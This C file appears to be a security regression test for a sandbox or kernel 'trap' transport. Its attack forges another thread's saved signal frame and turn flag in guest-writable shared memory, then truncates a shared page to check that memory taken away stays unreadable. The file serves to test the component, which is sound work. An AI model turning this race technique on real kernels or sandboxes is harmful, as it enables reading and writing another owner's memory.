// SPDX-License-Identifier: GPL-2.0
/*
 * In the transport `trap`, whose turn it is stands in memory that guest code can
 * write. So one thread says in another's name that it has made a call that does
 * not end, and that one runs on while the kernel believes it asleep. When memory
 * is taken away from both meanwhile, by a third process, it must not see it any
 * more: the next owner of the page would be read and written.
 */
#include "attack.h"
#include <pthread.h>
#include <sched.h>
#include <sys/syscall.h>
#include <ucontext.h>

#define SLOTS	    (STUB_START + 0x100000)
#define SLOT_SIZE   0x8000UL
#define SLOT_TURN   16
#define SLOT_SIGNAL 20
#define SLOT_UC	    24
#define ARCH_OFFSET 28 /* si_arch, in what follows the ucontext */

static struct shared {
	volatile int ready, rounds, truncated, after;
	volatile int tid, forged, asleep;
	volatile unsigned long fs;
} *s;
static volatile char *page;
static int file;

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	sched_setaffinity(0, sizeof set, &set);
}

static void *runs_on(void *v)
{
	(void)v;
	pin(1);		/* fails where there is one only */
	s->tid = (int)syscall(SYS_gettid);
	s->fs = (unsigned long)pthread_self();
	s->ready = 1;
	for (;;) {
		int t = s->truncated;
		char c = *page;

		(void)c;
		s->after += t;
		s->rounds++;
	}
	return NULL;
}

static int sleeps(int tid)
{
	char name[64], b[256];
	ssize_t n;
	int fd;

	snprintf(name, sizeof name, "/proc/self/task/%d/stat", tid);
	fd = open(name, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, b, sizeof b - 1);
	close(fd);
	b[n > 0 ? n : 0] = 0;
	return n > 0 && strrchr(b, ')') && strrchr(b, ')')[2] == 'S';
}

/* The frame of its last signal becomes pause(2), and it is the vcpu's turn. */
static int forge(void)
{
	for (unsigned long i = 0; i < 8; i++) {
		volatile unsigned char *slot = (void *)(SLOTS + i * SLOT_SIZE);
		unsigned long at;
		ucontext_t *uc;

		if (fault_read(slot))
			return 0;
		if (*(volatile unsigned long *)slot != s->fs)
			continue;
		at = *(volatile unsigned long *)(slot + SLOT_UC);
		if (at < (unsigned long)slot || at > (unsigned long)slot + SLOT_SIZE)
			return 0;
		uc = (ucontext_t *)at;
		uc->uc_mcontext.gregs[REG_RAX] = SYS_pause;
		*(unsigned *)(at + 304 + ARCH_OFFSET) = 0xc000003e;
		*(volatile unsigned *)(slot + SLOT_SIGNAL) = SIGSYS;
		__atomic_store_n((unsigned *)(slot + SLOT_TURN), 1,
				 __ATOMIC_SEQ_CST);
		return 1;
	}
	return 0;
}

/* Takes the page away while the attacker is in a call of its own. */
static void take_away(void)
{
	while (!s->asleep)
		usleep(1000);
	usleep(10000);
	if (ftruncate(file, 0))
		_exit(1);
	s->truncated = 1;
	usleep(50000);
	_exit(0);
}

static int attack(void *v)
{
	pthread_t t;

	(void)v;
	if (fork() == 0)
		take_away();
	pin(0);
	*page = 1;
	pthread_create(&t, NULL, runs_on, NULL);
	while (!s->ready || s->rounds < 1000)
		usleep(1000);
	for (int i = 0; i < 100 && !sleeps(s->tid); i++) {
		s->forged = forge();
		usleep(1000);
	}
	int n = s->rounds;
	usleep(2000);
	s->forged += sleeps(s->tid) && s->rounds != n;
	s->asleep = 1;
	usleep(80000);
	return 0;
}

/* Where it is not believed there is less to see: the transport `notify`, one
 * cpu, or a kick that came at that moment. */
int main(int argc, char **argv)
{
	int believed = 0;

	attack_start(argc, argv, 120, 1);
	s = shared_alloc(4096);
	file = (int)syscall(SYS_memfd_create, "page", 0);
	for (int i = 0; i < 30 && believed < 3; i++) {
		memset(s, 0, sizeof *s);
		if (file < 0 || ftruncate(file, PG))
			return 1;
		page = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_SHARED, file,
			    0);
		int st = attack_run(attack, NULL, 10000);

		believed += s->forged == 2;
		if (s->after)
			eq(s->after, 0, "a page that was taken away is seen");
		if (st == -2)
			ok(0, "the attacker can't be killed");
		munmap((void *)page, PG);
	}
	tap_note("%d times it ran on while taken for asleep", believed);
	all_well(0, "threads that run on");
	return tap_done();
}
